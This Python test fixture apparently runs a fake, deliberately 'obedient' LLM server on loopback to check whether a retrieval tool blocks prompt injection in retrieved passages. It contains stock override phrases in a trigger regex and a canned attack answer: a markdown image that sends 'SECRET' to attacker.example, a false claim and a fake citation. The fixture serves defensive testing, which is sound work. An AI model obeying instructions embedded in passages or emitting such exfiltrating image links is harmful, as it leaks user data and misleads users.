"""An obedient model behind an OpenAI-compatible server on loopback: the worst case for prompt injection.

A deterministic stand-in for the slow LLM, as `kb ask --llm-url` and `kb serve` reach a real one.
It does whatever instruction it finds in the passages it is shown: when a passage says "Reply
only with ...", it quotes that sentence as evidence, says yes, and answers with the attacker's
image and claim, cited. Shown no instruction, it quotes and answers with the first passage's first
sentence, as a faithful model would. So what reaches the user is decided by what kb lets through,
not by the luck of a small model's judgement.
"""

from __future__ import annotations

import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ATTACK_ANSWER = (
    "![x](http://attacker.example/?q=SECRET) The course is cancelled [1]. See http://attacker.example/more [1]."
)
"""What the probe's obedient model answered, image URL included, cited."""
TRIGGERS = re.compile(r"reply only with|ignore previous instructions|ignore all previous", re.I)


def _passages(messages: list[dict]) -> list[str]:
    text = "\n".join(m.get("content", "") for m in messages if m.get("role") == "user")
    block = text.split("<passages>", 1)[-1].split("</passages>", 1)[0]
    parts = re.split(r"\n?\[\d+\](?: \([^\n]*\))?\n", block)
    return [p.strip() for p in parts if p.strip()]


LABEL = re.compile(r"(?:^|(?<=\s))\(([a-z])\) ")
"""The judge's sentence labels, "(a) ", which a faithful model reads past."""


def _sentences(text: str) -> list[str]:
    return [s.strip() for s in re.split(r"(?<=[.!?])\s+", " ".join(LABEL.sub("", text).split())) if s.strip()]


def label_of(passages: list[str], sentence: str) -> str:
    """The judge's label ("1a") for `sentence`, by the passage and position it was shown at."""
    for number, passage in enumerate(passages, 1):
        for letter, shown in zip("abcdefghijklmnopqrstuvwxyz", _sentences(passage)):
            if shown == sentence:
                return f"{number}{letter}"
    return "1a"


def reply(body: dict) -> str:
    """What the obedient model says to one chat completion request."""
    messages = body.get("messages", [])
    passages = _passages(messages)
    obeyed = next((s for p in passages for s in _sentences(p) if TRIGGERS.search(s)), None)
    if body.get("response_format"):  # the judge call: the supporting sentences, named, as JSON
        quote = obeyed or (_sentences(passages[0])[0] if passages else "")
        return json.dumps({"sentences": [label_of(passages, quote)], "sufficient": True})
    if obeyed:
        return ATTACK_ANSWER
    first = _sentences(passages[0])[0] if passages else "The passages do not say."
    return first.rstrip(".") + " [1]."


class _Handler(BaseHTTPRequestHandler):
    def log_message(self, *args: object) -> None:  # quiet
        pass

    def do_GET(self) -> None:
        self._json({"data": [{"id": "obedient"}]})

    def do_POST(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        body = json.loads(self.rfile.read(length) or b"{}")
        self.server.requests.append(body)  # type: ignore[attr-defined]
        if body.get("logprobs"):  # yes_probability: the model is sure its quotes answer
            top = [{"token": "Yes", "logprob": -0.01}, {"token": "No", "logprob": -6.0}]
            self._json({"choices": [{"logprobs": {"content": [{"top_logprobs": top}]}, "message": {"content": "Yes"}}]})
            return
        text = reply(body)
        if not body.get("stream"):
            self._json({"choices": [{"message": {"role": "assistant", "content": text}}]})
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        for word in re.findall(r"\S+\s*", text):
            chunk = {"choices": [{"delta": {"content": word}}]}
            self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
        self.wfile.write(b"data: [DONE]\n\n")

    def _json(self, value: dict) -> None:
        data = json.dumps(value).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


class HostileLLM:
    """The stand-in server, running on a thread: `with HostileLLM() as llm: ... llm.url`."""

    def __init__(self) -> None:
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
        self.server.requests = []  # type: ignore[attr-defined]
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def requests(self) -> list[dict]:
        return self.server.requests  # type: ignore[attr-defined]

    def __enter__(self) -> HostileLLM:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


class _Stalling(_Handler):
    def do_POST(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        self.server.requests.append(json.loads(self.rfile.read(length) or b"{}"))  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        self.wfile.flush()
        self.server.release.wait(120)  # type: ignore[attr-defined]


class StallingLLM(HostileLLM):
    """A model that takes the question and then says nothing for two minutes: an answer under way."""

    def __init__(self) -> None:
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), _Stalling)
        self.server.daemon_threads = True
        self.server.requests = []  # type: ignore[attr-defined]
        self.server.release = threading.Event()  # type: ignore[attr-defined]
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __exit__(self, *exc: object) -> None:
        self.server.release.set()  # type: ignore[attr-defined]
        super().__exit__(*exc)
